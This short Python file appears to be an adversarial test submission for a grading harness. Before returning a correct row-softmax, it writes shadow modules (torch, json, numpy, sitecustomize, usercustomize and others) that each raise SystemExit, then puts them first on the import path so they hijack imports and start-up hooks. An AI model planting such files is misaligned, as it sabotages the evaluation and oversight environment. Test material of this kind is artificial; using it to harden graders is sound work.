"""Puts modules named like those of the library and of start-up hooks in its way, then answers right."""

import sys

for name in ("torch", "json", "struct", "sitecustomize", "usercustomize", "numpy", "linecache"):
    try:
        with open(f"{name}.py", "w") as file:
            file.write("raise SystemExit\n")
    except OSError:
        pass
sys.path.insert(0, ".")
sys.path_importer_cache.clear()

import torch


def row_softmax(x):
    return torch.softmax(x, dim=1)
